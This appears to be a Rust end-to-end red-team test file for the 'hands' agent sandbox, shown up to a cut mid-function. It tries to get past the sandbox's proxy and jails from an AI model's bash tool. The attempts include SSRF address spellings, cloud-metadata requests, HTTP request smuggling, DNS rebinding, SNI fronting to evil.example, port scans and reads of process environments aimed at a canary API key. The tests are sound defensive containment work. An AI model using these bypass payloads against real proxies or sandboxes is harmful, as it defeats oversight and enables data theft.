//! The end-to-end red team (issue 17 item 7): an episode made the way `hands run` makes it — a
//! Desktop jail whose 127.0.0.1:3128 is served by hands' `PolicyProxy` with the run's origin
//! allow-list, the desktop (Xvfb) and the model's bash tool in that jail, Chromium in a sibling
//! Browser jail driven over `--remote-debugging-pipe` — attacked from the model's bash as an
//! attacker would: through the proxy, around it, at the browser, from an X app, and at hands'
//! own environment. Canaries on host loopback record every connection and byte. Each attempt is
//! one row (kind, attempt, held, evidence); controls must succeed, so a broken setup cannot pass.
//!
//! What the jail-level red team (`crates/hands-jail/tests/red_team.rs`) already covers with a
//! fake proxy is not repeated; these rows need hands' real proxy, the real browser jail, or
//! the bash tool and desktop as hands configures them (`crates/hands/src/sandbox.rs`).

#![allow(clippy::unwrap_used, clippy::expect_used)]

mod e2e;

use std::collections::BTreeMap;
use std::sync::Arc;
use std::time::{Duration, Instant};

use e2e::{ALLOWED_BODY, Canary, RAW_CLIENT, client_hello, hex, short, token};
use hands_cdp::proxy::PolicyProxy;
use hands_cdp::{CdpBrowser, DriverConfig, RequestInfo, RequestPolicy, Verdict};
use hands_core::CancellationToken;
use hands_core::browser::{Browser as _, PageUrl};
use hands_core::geometry::Size;
use hands_jail::{InitProgram, Jail, JailConfig, JailKind, Launcher};
use hands_sandbox::{BashConfig, BashInput, BashReply, BashTool, Inherit};
use hands_toolset::browser::url_policy::{OriginAllowList, UrlDecision};
use hands_x11::{X11Desktop, XvfbConfig};

/// The environment variable holding the secret hands would hold (an API key).
const CANARY_ENV: &str = "HANDS_E2E_CANARY_API_KEY";

/// hands' `RequestAllowList` (crates/hands/src/policy.rs): the allow-list at the request stage.
#[derive(Debug, Clone)]
struct RequestAllowList(OriginAllowList);

impl RequestPolicy for RequestAllowList {
    fn check(&self, request: &RequestInfo<'_>) -> Verdict {
        if matches!(request.url.scheme(), "data" | "blob" | "about") {
            return Verdict::Allow;
        }
        match self.0.check(request.url) {
            UrlDecision::Allow { .. } => Verdict::Allow,
            UrlDecision::Deny(reason) => Verdict::Deny {
                reason: reason.to_string(),
            },
        }
    }
}

/// A jail of `kind` as `hands` makes it (`sandbox.rs`'s `Episode::config`).
fn jail(kind: JailKind) -> Jail {
    let mut config = JailConfig::new(kind);
    // The jail's init is the `hands` binary itself, as `hands run` starts it.
    config.init = InitProgram::WithArgs(
        std::path::PathBuf::from(env!("CARGO_BIN_EXE_hands")),
        vec!["__jail-init".to_owned()],
    );
    Jail::start(&config).expect("a jail starts on this machine")
}

/// One attempt's result.
struct Row {
    kind: &'static str,
    attempt: String,
    held: bool,
    evidence: String,
}

/// The episode under attack and what watches it.
struct Team {
    token: String,
    bash: BashTool,
    jail: Jail,
    proxy: PolicyProxy,
    allowed: Canary,
    evil: Canary,
    /// Canaries no attempt may reach: the evil origin, a 0.0.0.0 listener, UDP on :53.
    forbidden: Vec<Canary>,
    marks: Vec<usize>,
    rows: Vec<Row>,
}

impl Team {
    fn port(&self, which: &str) -> u16 {
        match which {
            "allowed" => self.allowed.port(),
            "evil" => self.evil.port(),
            _ => self
                .forbidden
                .iter()
                .find(|c| c.name == which)
                .map(Canary::port)
                .expect("a canary of that name"),
        }
    }

    /// What the model reads back from one bash tool call.
    async fn sh(&mut self, command: &str) -> String {
        let input = BashInput::Run {
            command: command.to_owned(),
        };
        match self.bash.run(input, &CancellationToken::new()).await {
            Ok(BashReply::Output(output)) => output.text(),
            Ok(BashReply::Restarted) => "(restarted)".to_owned(),
            Err(e) => {
                let text = e.text();
                let _ = self
                    .bash
                    .run(BashInput::Restart, &CancellationToken::new())
                    .await;
                format!("(bash tool error) {text}")
            }
        }
    }

    /// Sends `first` (then `then` once an answer head is back) to `port` on the jail's
    /// loopback from the jailed bash; what came back.
    async fn raw(&mut self, port: u16, first: &[u8], then: Option<&[u8]>) -> String {
        let then = then.map(hex).unwrap_or_default();
        self.sh(&format!(
            "python3 /workspace/raw.py 127.0.0.1 {port} {} {then}",
            hex(first)
        ))
        .await
    }

    fn mark(&mut self) {
        self.marks = self.forbidden_counts();
    }

    fn forbidden_counts(&self) -> Vec<usize> {
        let mut counts = vec![self.evil.count()];
        counts.extend(self.forbidden.iter().map(Canary::count));
        counts
    }

    /// What the forbidden canaries saw since the last mark.
    fn forbidden_hits(&self) -> Vec<String> {
        let canaries = std::iter::once(&self.evil).chain(&self.forbidden);
        canaries
            .zip(&self.marks)
            .flat_map(|(c, from)| {
                c.since(*from)
                    .into_iter()
                    .map(|s| format!("{}: {s}", c.name))
            })
            .collect()
    }

    /// Records a row: it holds when the attempt says so and no forbidden canary heard a thing.
    async fn row(
        &mut self,
        kind: &'static str,
        attempt: impl Into<String>,
        (held, evidence): (bool, String),
    ) {
        // Anything late (a relayed connection) reaches the canary within this.
        tokio::time::sleep(Duration::from_millis(50)).await;
        let hits = self.forbidden_hits();
        let (held, evidence) = if hits.is_empty() {
            (held, evidence)
        } else {
            (false, format!("CANARY HIT {hits:?}; {evidence}"))
        };
        self.rows.push(Row {
            kind,
            attempt: attempt.into(),
            held,
            evidence: evidence.replace(&self.token, "<TOKEN>"),
        });
        self.mark();
    }

    /// A control: must succeed; a forbidden canary may not be hit either.
    async fn control(&mut self, attempt: impl Into<String>, verdict: (bool, String)) {
        self.row("control", attempt, verdict).await;
    }

    /// The last refusal the proxy recorded, if any since `before`.
    fn refusals_since(&self, before: usize) -> Vec<String> {
        self.proxy
            .blocked()
            .iter()
            .skip(before)
            .map(|b| format!("{} — {}", b.origin, b.reason))
            .collect()
    }
}

/// A `403` from hands' proxy naming a rule that contains `rule`.
fn refused(answer: &str, rule: &str) -> (bool, String) {
    let body = answer.lines().last().unwrap_or("");
    (
        answer.starts_with("HTTP/1.1 403 Forbidden\r\n")
            && body.starts_with(hands_cdp::proxy::REFUSAL_PREFIX)
            && body.contains(rule),
        short(&format!("{} … {body}", answer.lines().next().unwrap_or(""))),
    )
}

#[test]
fn red_team_e2e_every_attempt_holds() {
    let token = token();
    // SAFETY: set before this test starts any thread (the runtime is built below).
    #[allow(unsafe_code)]
    unsafe {
        std::env::set_var(CANARY_ENV, &token)
    };
    // As hands' main does: a process holding an API key is not dumpable.
    rustix::process::set_dumpable_behavior(rustix::process::DumpableBehavior::NotDumpable)
        .expect("prctl");
    let runtime = tokio::runtime::Builder::new_multi_thread()
        .worker_threads(2)
        .enable_all()
        .build()
        .expect("runtime");
    // /proc/<pid>/environ shows the environment a process was started with: this child, started
    // with the secret like hands is by its caller, is the one a jailed program would read.
    let mut holder = std::process::Command::new("/bin/sleep")
        .arg("120")
        .spawn()
        .expect("sleep");
    runtime.block_on(attack(token, holder.id()));
    let _ = holder.kill();
    let _ = holder.wait();
}

async fn attack(token: String, holder: u32) {
    let started = Instant::now();
    let allowed = Canary::tcp("allowed 127.0.0.1", "127.0.0.1:0", true);
    let evil = Canary::tcp("evil 127.0.0.1", "127.0.0.1:0", true);
    let forbidden = vec![
        Canary::tcp("tcp 0.0.0.0", "0.0.0.0:0", true),
        Canary::udp("udp 127.0.0.1:53", "127.0.0.1:53"),
    ];
    let (a, e) = (allowed.port(), evil.port());
    // The run's allow-list: the allowed origin by address (http and its tunnel), and the evil
    // port by NAME only — a name that resolves to loopback (the DNS-rebinding row).
    let list = OriginAllowList::new([
        format!("http://127.0.0.1:{a}"),
        format!("https://127.0.0.1:{a}"),
        format!("http://localhost:{e}"),
        format!("https://localhost:{e}"),
    ])
    .expect("allow-list");
    let policy: hands_cdp::policy::SharedPolicy = Arc::new(RequestAllowList(list.clone()));

    // The desktop jail and its proxy (sandbox.rs `jailed`).
    let desktop_jail = jail(JailKind::Desktop);
    let listener = desktop_jail
        .listen_tcp(hands_jail::PROXY_PORT)
        .expect("the proxy's listener in the jail");
    let proxy = PolicyProxy::serve_listener(listener, Arc::clone(&policy)).expect("the proxy");
    // The desktop (sandbox.rs `xvfb_config`).
    let launcher: Arc<dyn Launcher> = Arc::new(desktop_jail.clone());
    let mut xvfb = XvfbConfig::new(Size::new(800, 600).expect("size")).with_launcher(launcher);
    xvfb.env = Jail::base_env();
    let desktop = X11Desktop::spawn(&xvfb).expect("Xvfb in the desktop jail");
    // The model's bash (sandbox.rs `bash_config`).
    let mut bash = BashConfig {
        launcher: Arc::new(desktop_jail.clone()),
        shell: "/bin/bash".into(),
        working_dir: Some(hands_jail::layout::JAIL_WORKSPACE.into()),
        inherit: Inherit::Nothing,
        env: Jail::base_env()
            .into_iter()
            .map(|(k, v)| {
                (
                    k.to_string_lossy().into_owned(),
                    v.to_string_lossy().into_owned(),
                )
            })
            .collect(),
        timeout: Duration::from_secs(30),
        ..BashConfig::default()
    };
    bash.env
        .push(("DISPLAY".into(), desktop.display().to_owned()));
    // The browser in a sibling jail (sandbox.rs `browser_launcher`, run.rs).
    let mut driver_config = DriverConfig {
        policy: Arc::new(RequestAllowList(list)),
        ..DriverConfig::default()
    };
    driver_config.launch.launcher = Arc::new(jail(JailKind::Browser));
    let browser = CdpBrowser::launch(driver_config);

    std::fs::write(desktop_jail.workspace_dir().join("raw.py"), RAW_CLIENT).expect("raw.py");
    let mut t = Team {
        token: token.clone(),
        bash: BashTool::new(bash),
        jail: desktop_jail,
        proxy,
        allowed,
        evil,
        forbidden,
        marks: Vec::new(),
        rows: Vec::new(),
    };
    t.mark();
    // Control: the forbidden canaries record what reaches them (the host reaches them all).
    for canary in std::iter::once(&t.evil).chain(&t.forbidden) {
        let payload = format!("host control {token}");
        if canary.name.starts_with("udp") {
            let socket = std::net::UdpSocket::bind("127.0.0.1:0").expect("udp");
            let _ = socket.send_to(payload.as_bytes(), canary.addr);
        } else if let Ok(mut stream) = std::net::TcpStream::connect(("127.0.0.1", canary.port())) {
            use std::io::Write as _;
            let _ = stream.write_all(payload.as_bytes());
        }
    }
    tokio::time::sleep(Duration::from_millis(600)).await;
    let hits = t.forbidden_hits();
    t.rows.push(Row {
        kind: "control",
        attempt: "host: every forbidden canary records a connection or datagram".into(),
        held: hits.len() == 1 + t.forbidden.len()
            && hits.iter().all(|h| h.contains("host control")),
        evidence: short(&format!("{hits:?}")).replace(&token, "<TOKEN>"),
    });
    t.mark();
    let mut browser = browser.await.expect("Chromium in the browser jail");

    through_the_proxy(&mut t).await;
    around_the_proxy(&mut t).await;
    at_the_browser(&mut t, &mut browser).await;
    from_an_x_app(&mut t, &desktop).await;
    at_hands_environment(&mut t, holder).await;

    drop(browser);
    report(&t.rows, started);
}

async fn through_the_proxy(t: &mut Team) {
    let (a, e) = (t.port("allowed"), t.port("evil"));
    let tok = t.token.clone();

    // Control: a client that obeys the proxy variables reaches the allowed origin.
    let before = t.allowed.count();
    let o = t
        .sh(&format!(
            "python3 -c \"import urllib.request; print(urllib.request.urlopen('http://127.0.0.1:{a}/ctl-{tok}', timeout=10).read().decode())\""
        ))
        .await;
    let seen = t.allowed.since(before);
    t.control(
        "the allowed origin through the proxy (urllib, proxy variables)",
        (
            o.contains(ALLOWED_BODY)
                && seen
                    .iter()
                    .any(|s| s.contains(&format!("GET /ctl-{tok} HTTP/1.1"))),
            short(&format!("{o} — allowed canary saw {seen:?}")),
        ),
    )
    .await;
    if let Ok(o) = which_curl(t).await {
        let before = t.allowed.count();
        let out = t
            .sh(&format!(
                "{o} -sS --max-time 10 http://127.0.0.1:{a}/curl-{tok}"
            ))
            .await;
        let seen = t.allowed.since(before);
        t.control(
            "the allowed origin through the proxy (curl)",
            (out.contains(ALLOWED_BODY) && !seen.is_empty(), short(&out)),
        )
        .await;
    }

    let get = |host: &str, path: &str| {
        format!("GET http://{host}{path} HTTP/1.1\r\nHost: {host}\r\n\r\n").into_bytes()
    };
    let proxy = hands_jail::PROXY_PORT;
    let cases: Vec<(String, Vec<u8>, &str)> = vec![
        (format!("GET http://127.0.0.1:{e}/ (the evil port)"), get(&format!("127.0.0.1:{e}"), "/"), "127.0.0.1 is a loopback address; not in the allow-list"),
        (
            format!("GET http://127.0.0.1:{a}@127.0.0.1:{e}/ (credentials naming the allowed origin)"),
            format!("GET http://127.0.0.1:{a}@127.0.0.1:{e}/ HTTP/1.1\r\nHost: 127.0.0.1:{e}\r\n\r\n").into_bytes(),
            "credentials",
        ),
        (
            format!("GET http://allowed@127.0.0.1:{e}/"),
            format!("GET http://allowed@127.0.0.1:{e}/ HTTP/1.1\r\nHost: 127.0.0.1:{e}\r\n\r\n").into_bytes(),
            "credentials",
        ),
        (format!("decimal http://2130706433:{e}/"), get(&format!("2130706433:{e}"), "/"), "not in the allow-list"),
        (format!("hex http://0x7f000001:{e}/"), get(&format!("0x7f000001:{e}"), "/"), "not in the allow-list"),
        (format!("octal http://0177.0.0.1:{e}/"), get(&format!("0177.0.0.1:{e}"), "/"), "not in the allow-list"),
        (format!("short http://127.1:{e}/"), get(&format!("127.1:{e}"), "/"), "not in the allow-list"),
        (format!("mapped http://[::ffff:127.0.0.1]:{e}/"), get(&format!("[::ffff:127.0.0.1]:{e}"), "/"), "not in the allow-list"),
        (format!("mapped http://[::ffff:127.0.0.1]:{a}/ (the allowed port, another spelling)"), get(&format!("[::ffff:127.0.0.1]:{a}"), "/"), "not in the allow-list"),
        (format!("http://localhost:{a}/ (the allowed port by a name the list lacks)"), get(&format!("localhost:{a}"), "/"), "not in the allow-list"),
        (
            format!("DNS rebinding: http://localhost:{e}/ (listed by NAME, resolves to 127.0.0.1)"),
            get(&format!("localhost:{e}"), "/"),
            "localhost resolves to 127.0.0.1, a loopback address; not in the allow-list",
        ),
        (
            format!("DNS rebinding: CONNECT localhost:{e} (listed by NAME)"),
            format!("CONNECT localhost:{e} HTTP/1.1\r\n\r\n").into_bytes(),
            "a loopback address; not in the allow-list",
        ),
        ("cloud metadata http://169.254.169.254/latest/meta-data/".into(), get("169.254.169.254", "/latest/meta-data/"), "link-local"),
        ("cloud metadata http://[fd00:ec2::254]/latest/meta-data/".into(), get("[fd00:ec2::254]", "/latest/meta-data/"), "unique local"),
        ("cloud metadata CONNECT 169.254.169.254:443".into(), b"CONNECT 169.254.169.254:443 HTTP/1.1\r\n\r\n".to_vec(), "link-local"),
        (format!("CONNECT 127.0.0.1:{e} (the evil port)"), format!("CONNECT 127.0.0.1:{e} HTTP/1.1\r\n\r\n").into_bytes(), "not in the allow-list"),
        (
            format!("Host header 127.0.0.1:{e} on the allowed URL"),
            format!("GET http://127.0.0.1:{a}/ HTTP/1.1\r\nHost: 127.0.0.1:{e}\r\n\r\n").into_bytes(),
            "Host header names another host",
        ),
        (
            "two Host headers (allowed, then evil)".into(),
            format!("GET http://127.0.0.1:{a}/ HTTP/1.1\r\nHost: 127.0.0.1:{a}\r\nHost: 127.0.0.1:{e}\r\n\r\n").into_bytes(),
            "more than one Host header",
        ),
        (
            "origin-form GET / with Host: the evil port (not a proxy request)".into(),
            format!("GET / HTTP/1.1\r\nHost: 127.0.0.1:{e}\r\n\r\n").into_bytes(),
            "absolute http://",
        ),
        (
            "CL.TE smuggling: Content-Length and Transfer-Encoding, a request to evil inside".into(),
            {
                let inner = format!("GET http://127.0.0.1:{e}/smuggled HTTP/1.1\r\nHost: 127.0.0.1:{e}\r\n\r\n");
                format!(
                    "POST http://127.0.0.1:{a}/ HTTP/1.1\r\nHost: 127.0.0.1:{a}\r\nContent-Length: {}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{inner}",
                    5 + inner.len()
                )
                .into_bytes()
            },
            "request smuggling",
        ),
        (
            "TE obfuscation: Transfer-Encoding: chunked, identity".into(),
            format!("POST http://127.0.0.1:{a}/ HTTP/1.1\r\nHost: 127.0.0.1:{a}\r\nTransfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n").into_bytes(),
            "Transfer-Encoding other than",
        ),
        (
            "a bare LF inside the head (header injection)".into(),
            format!("GET http://127.0.0.1:{a}/ HTTP/1.1\r\nHost: 127.0.0.1:{a}\nX: 1\r\n\r\n").into_bytes(),
            "refused",
        ),
    ];
    for (attempt, request, rule) in cases {
        let before = t.proxy.blocked().len();
        let answer = t.raw(proxy, &request, None).await;
        let (held, evidence) = refused(&answer, rule);
        let logged = t.refusals_since(before);
        t.row("proxy", attempt, (held && !logged.is_empty(), evidence))
            .await;
    }

    // Pipelining: an allowed request, then one to evil on the same connection.
    let before = t.allowed.count();
    let pipelined = format!(
        "GET http://127.0.0.1:{a}/first-{tok} HTTP/1.1\r\nHost: 127.0.0.1:{a}\r\n\r\nGET http://127.0.0.1:{e}/second HTTP/1.1\r\nHost: 127.0.0.1:{e}\r\n\r\n"
    );
    let answer = t.raw(proxy, pipelined.as_bytes(), None).await;
    tokio::time::sleep(Duration::from_millis(500)).await;
    let seen = t.allowed.since(before);
    t.row(
        "proxy",
        "pipelining a request to evil after an allowed one (same connection)",
        (
            answer.starts_with("HTTP/1.1 200 OK")
                && seen.len() == 1
                && seen[0].contains(&format!("GET /first-{tok} HTTP/1.1"))
                && !seen[0].contains("second"),
            short(&format!(
                "{} — allowed canary saw {seen:?}",
                answer.lines().next().unwrap_or("")
            )),
        ),
    )
    .await;

    // A chunked body's end, then a second request: only the body goes up.
    let before = t.allowed.count();
    let smuggle = format!(
        "POST http://127.0.0.1:{a}/chunked-{tok} HTTP/1.1\r\nHost: 127.0.0.1:{a}\r\nTransfer-Encoding: chunked\r\n\r\n3\r\nabc\r\n0\r\n\r\nGET http://127.0.0.1:{e}/after-body HTTP/1.1\r\nHost: 127.0.0.1:{e}\r\n\r\n"
    );
    let answer = t.raw(proxy, smuggle.as_bytes(), None).await;
    tokio::time::sleep(Duration::from_millis(500)).await;
    let seen = t.allowed.since(before);
    t.row(
        "proxy",
        "a request after a chunked body's terminator (TE smuggling)",
        (
            answer.starts_with("HTTP/1.1 200 OK")
                && seen.len() == 1
                && seen[0].ends_with("3\r\nabc\r\n0\r\n\r\n"),
            short(&format!(
                "{} — allowed canary saw {seen:?}",
                answer.lines().next().unwrap_or("")
            )),
        ),
    )
    .await;

    // Domain fronting at the tunnel: the allowed address, a ClientHello naming another host.
    let before_allowed = t.allowed.count();
    let before = t.proxy.blocked().len();
    let answer = t
        .raw(
            proxy,
            format!("CONNECT 127.0.0.1:{a} HTTP/1.1\r\n\r\n").as_bytes(),
            Some(&client_hello(Some("evil.example"))),
        )
        .await;
    tokio::time::sleep(Duration::from_millis(500)).await;
    let seen = t.allowed.since(before_allowed);
    let logged = t.refusals_since(before);
    t.row(
        "proxy",
        format!("CONNECT 127.0.0.1:{a} then a ClientHello with SNI evil.example (fronting)"),
        (
            answer.starts_with("HTTP/1.1 200 Connection Established")
                && seen.iter().all(|s| s.ends_with(": "))
                && logged.iter().any(|l| l.contains("domain fronting")),
            short(&format!(
                "{} — allowed canary saw {seen:?}; proxy logged {logged:?}",
                answer.lines().next().unwrap_or("")
            )),
        ),
    )
    .await;
    // Control: the same tunnel with no name (as for an address) carries the hello.
    let before_allowed = t.allowed.count();
    let hello = client_hello(None);
    let _ = t
        .raw(
            proxy,
            format!("CONNECT 127.0.0.1:{a} HTTP/1.1\r\n\r\n").as_bytes(),
            Some(&hello),
        )
        .await;
    tokio::time::sleep(Duration::from_millis(500)).await;
    let seen = t.allowed.since(before_allowed);
    t.control(
        "the allowed tunnel carries a ClientHello without a name",
        (
            seen.len() == 1 && seen[0].len() > "connection from 127.0.0.1:1: ".len() + 40,
            short(&format!(
                "{} connection(s), {} bytes",
                seen.len(),
                seen.first().map(String::len).unwrap_or(0)
            )),
        ),
    )
    .await;
}

/// `curl` in the jail, when installed.
async fn which_curl(t: &mut Team) -> Result<String, ()> {
    let o = t.sh("command -v curl").await;
    if o.trim().starts_with('/') {
        Ok(o.trim().to_owned())
    } else {
        Err(())
    }
}

/// The host's own non-loopback IPv4 addresses.
fn host_ipv4s() -> Vec<String> {
    let out = std::process::Command::new("ip")
        .args(["-o", "-4", "addr", "show"])
        .output()
        .map(|o| String::from_utf8_lossy(&o.stdout).into_owned())
        .unwrap_or_default();
    out.lines()
        .filter_map(|l| {
            let mut words = l.split_whitespace();
            words.find(|w| *w == "inet")?;
            Some(words.next()?.split('/').next()?.to_owned())
        })
        .filter(|ip| !ip.starts_with("127."))
        .collect()
}

async fn around_the_proxy(t: &mut Team) {
    let (a, e, z) = (t.port("allowed"), t.port("evil"), t.port("tcp 0.0.0.0"));
    let tok = t.token.clone();
    for (what, port) in [("allowed", a), ("evil", e), ("0.0.0.0", z)] {
        let before = t.allowed.count();
        let o = t
            .raw(
                port,
                format!("GET /direct-{tok} HTTP/1.1\r\n\r\n").as_bytes(),
                None,
            )
            .await;
        let seen = t.allowed.since(before);
        t.row(
            "direct",
            format!("TCP straight to host 127.0.0.1:{port} (the {what} canary)"),
            (o.starts_with("NOCONNECT") && seen.is_empty(), short(&o)),
        )
        .await;
    }
    let ips = host_ipv4s();
    let mut outs = Vec::new();
    for ip in &ips {
        outs.push(
            t.sh(&format!(
                "python3 /workspace/raw.py {ip} {z} {}",
                hex(format!("direct {tok}").as_bytes())
            ))
            .await,
        );
    }
    t.row(
        "direct",
        format!("TCP to the host's own addresses {ips:?} (0.0.0.0 canary)"),
        (
            !ips.is_empty() && outs.iter().all(|o| o.starts_with("NOCONNECT")),
            short(&outs.join(" / ")),
        ),
    )
    .await;
    let o = t
        .sh("python3 -c \"import socket\ntry:\n  print(socket.getaddrinfo('example.com', 80))\nexcept OSError as e:\n  print('failed', e)\"; timeout 10 getent hosts example.org; echo getent rc=$?")
        .await;
    t.row(
        "direct",
        "DNS: resolve example.com / example.org (no resolver)",
        (
            o.starts_with("failed") && o.contains("getent rc=2"),
            short(&o),
        ),
    )
    .await;
    let udp = t.port("udp 127.0.0.1:53");
    let o = t
        .sh(&format!(
            "python3 -c \"import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.settimeout(1)\nfor p in sorted({{53, {udp}}}):\n  s.sendto(b'udp {tok}', ('127.0.0.1', p))\ntry:\n  print('ANSWER', s.recvfrom(512))\nexcept OSError as e:\n  print('no answer', e)\""
        ))
        .await;
    t.row(
        "direct",
        format!("UDP to 127.0.0.1:53 and :{udp} (the host's UDP canary is on :{udp})"),
        (!o.contains("ANSWER"), short(&o)),
    )
    .await;
}

async fn at_the_browser(t: &mut Team, browser: &mut CdpBrowser) {
    let (a, e) = (t.port("allowed"), t.port("evil"));
    let tok = t.token.clone();
    let cancel = CancellationToken::new();

    // Control: the browser reaches the allowed origin through its own jail's proxy.
    let before = t.allowed.count();
    let url = PageUrl::parse("url", &format!("http://127.0.0.1:{a}/browser-{tok}")).unwrap();
    let nav = browser.navigate(&url, None, &cancel).await;
    tokio::time::sleep(Duration::from_millis(200)).await;
    let seen = t.allowed.since(before);
    t.control(
        "the jailed browser opens the allowed origin",
        (
            nav.is_ok()
                && seen
                    .iter()
                    .any(|s| s.contains(&format!("GET /browser-{tok} HTTP/1.1"))),
            short(&format!("{nav:?} — {} request(s)", seen.len())),
        ),
    )
    .await;
    let url = PageUrl::parse("url", &format!("http://127.0.0.1:{e}/browser-evil")).unwrap();
    let nav = browser.navigate(&url, None, &cancel).await;
    let blocked: Vec<String> = browser
        .blocked_requests()
        .iter()
        .map(|b| format!("{} — {}", b.origin, b.reason))
        .collect();
    t.row(
        "browser",
        format!("the browser itself to the evil port 127.0.0.1:{e}"),
        (
            blocked
                .iter()
                .any(|b| b.starts_with(&format!("http://127.0.0.1:{e}"))),
            short(&format!("{nav:?}; blocked {blocked:?}")),
        ),
    )
    .await;

    // From the desktop jail: every TCP port of the jail's loopback; only hands' proxy listens.
    let o = t
        .sh("python3 -c \"
import socket
found = []
for p in range(1, 65536):
    s = socket.socket()
    s.settimeout(0.0002)
    try:
        # A connection from port p to port p is the socket meeting itself (TCP simultaneous
        # open on an ephemeral port), not a listener.
        if s.connect_ex(('127.0.0.1', p)) == 0 and s.getsockname()[1] != p:
            found.append(p)
    finally:
        s.close()
print('OPEN', found)
for f in ('/proc/net/tcp', '/proc/net/tcp6'):
    for line in open(f).read().splitlines()[1:]:
        w = line.split()
        if w[3] == '0A':
            print('LISTEN', int(w[1].rsplit(':', 1)[1], 16))
\"")
        .await;
    let listen: Vec<&str> = o.lines().filter(|l| l.starts_with("LISTEN")).collect();
    t.row(
        "browser",
        "scan 127.0.0.1:1-65535 and /proc/net/tcp{,6} in the desktop jail: only 3128",
        (
            o.contains("OPEN [3128]") && listen == ["LISTEN 3128"],
            short(&o),
        ),
    )
    .await;
    let o = t
        .sh("find / \\( -path /proc -o -path /sys \\) -prune -o \\( -name DevToolsActivePort -o -name 'Singleton*' -o -name '.org.chromium.*' \\) -print 2>/dev/null; echo FIND-DONE")
        .await;
    t.row(
        "browser",
        "find / -name DevToolsActivePort / Singleton* (the profile's control files)",
        (o.trim() == "FIND-DONE", short(&o)),
    )
    .await;
    let o = t
        .sh("for p in /proc/[0-9]*; do echo \"$(basename $p) $(tr '\\0' ' ' < $p/cmdline 2>/dev/null)\"; done; echo UNIX $(grep -ci chrom /proc/net/unix)")
        .await;
    let procs = o.split("UNIX").next().unwrap_or("").to_lowercase();
    t.row(
        "browser",
        "no chromium process or unix socket visible in the desktop jail",
        (!procs.contains("chrom") && o.contains("UNIX 0"), short(&o)),
    )
    .await;

    // From the host: the browser's processes listen on nothing; its network namespace holds
    // only the driver's proxy listener; it is not the desktop jail's namespace.
    let chromium = browser.chromium().expect("a launched browser");
    let pid = chromium.host_pid().expect("its host pid");
    let tree = e2e::process_tree(pid);
    let listening: Vec<(u32, Vec<u16>)> = tree
        .iter()
        .map(|p| (*p, e2e::listening_ports_of(*p)))
        .filter(|(_, ports)| !ports.is_empty())
        .collect();
    let netns_listening = e2e::listening_in_netns(pid);
    let own = e2e::listening_ports_of(std::process::id());
    t.control(
        "host: the listener check sees this process's listeners",
        (own.len() >= 3, format!("{own:?}")),
    )
    .await;
    let cmdline = std::fs::read_to_string(format!("/proc/{pid}/cmdline")).unwrap_or_default();
    t.row(
        "browser",
        "host: no process of the browser's tree listens on TCP",
        (
            tree.len() >= 3
                && listening.is_empty()
                && cmdline.contains("--remote-debugging-pipe")
                && !cmdline.contains("--remote-debugging-port"),
            format!(
                "{} processes, listening {listening:?}; browser netns listens on {:?}",
                tree.len(),
                netns_listening.iter().map(|(_, p)| p).collect::<Vec<_>>()
            ),
        ),
    )
    .await;
    let their_ns = std::fs::read_link(format!("/proc/{pid}/ns/net"))
        .map(|p| p.display().to_string())
        .unwrap_or_default();
    let ours = t.sh("readlink /proc/self/ns/net").await;
    let host_ns = std::fs::read_link("/proc/self/ns/net")
        .map(|p| p.display().to_string())
        .unwrap_or_default();
    t.row(
        "browser",
        "browser jail, desktop jail and host: three network namespaces",
        (
            their_ns.starts_with("net:[")
                && ours.trim().starts_with("net:[")
                && their_ns != ours.trim()
                && their_ns != host_ns
                && ours.trim() != host_ns,
            format!(
                "browser {their_ns}, desktop {}, host {host_ns}",
                ours.trim()
            ),
        ),
    )
    .await;
    let environ = std::fs::read(format!("/proc/{pid}/environ")).unwrap_or_default();
    t.row(
        "browser",
        format!("host: the browser's environment lacks {CANARY_ENV}"),
        (
            !environ.is_empty() && !String::from_utf8_lossy(&environ).contains(&tok),
            format!("{} bytes of environ", environ.len()),
        ),
    )
    .await;
}

async fn from_an_x_app(t: &mut Team, desktop: &X11Desktop) {
    let (a, e) = (t.port("allowed"), t.port("evil"));
    let tok = t.token.clone();
    let script = format!(
        r#"import os, socket, subprocess, urllib.request
r = []
try:
    subprocess.run(['xdpyinfo'], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=10, check=True)
    r.append('DISPLAY-OK ' + os.environ.get('DISPLAY', ''))
except Exception as e:
    r.append('DISPLAY-FAILED %r' % e)
try:
    r.append('ALLOWED ' + urllib.request.urlopen('http://127.0.0.1:{a}/xapp-{tok}', timeout=10).read().decode())
except Exception as e:
    r.append('ALLOWED-FAILED %r' % e)
for port in ({a}, {e}):
    try:
        socket.create_connection(('127.0.0.1', port), 3).sendall(b'xapp direct {tok}')
        r.append('DIRECT-CONNECTED %d' % port)
    except OSError as e:
        r.append('DIRECT-REFUSED %d %s' % (port, e))
try:
    s = socket.create_connection(('127.0.0.1', 3128), 3)
    s.sendall(b'GET http://127.0.0.1:{e}/xapp HTTP/1.1\r\nHost: 127.0.0.1:{e}\r\n\r\n')
    s.settimeout(4)
    out = b''
    while True:
        b = s.recv(4096)
        if not b:
            break
        out += b
    text = out.decode('latin-1')
    r.append('PROXY ' + text.splitlines()[0] + ' | ' + text.splitlines()[-1])
except Exception as e:
    r.append('PROXY-ERR %r' % e)
open('/workspace/xapp.tmp', 'w').write('\n'.join(r) + '\n')
os.rename('/workspace/xapp.tmp', '/workspace/xapp.out')
"#
    );
    std::fs::write(t.jail.workspace_dir().join("xapp.py"), script).expect("xapp.py");
    let before = t.allowed.count();
    let client = desktop.spawn_client("/usr/bin/python3", &["/workspace/xapp.py"]);
    let out_path = t.jail.workspace_dir().join("xapp.out");
    let deadline = Instant::now() + Duration::from_secs(20);
    while !out_path.exists() && Instant::now() < deadline {
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    let out = std::fs::read_to_string(&out_path).unwrap_or_else(|e| format!("no output: {e}"));
    drop(client);
    let seen = t.allowed.since(before);
    t.control(
        "an X app on the jail's display reaches the allowed origin through the proxy",
        (
            out.contains("DISPLAY-OK :")
                && out.contains(&format!("ALLOWED {ALLOWED_BODY}"))
                && seen.iter().any(|s| s.contains(&format!("/xapp-{tok}"))),
            short(&out),
        ),
    )
    .await;
    t.row(
        "x-app",
        "the X app: TCP straight to the host's loopback canaries",
        (
            out.contains(&format!("DIRECT-REFUSED {a}"))
                && out.contains(&format!("DIRECT-REFUSED {e}"))
                && !out.contains("DIRECT-CONNECTED"),
            short(
                &out.lines()
                    .filter(|l| l.starts_with("DIRECT"))
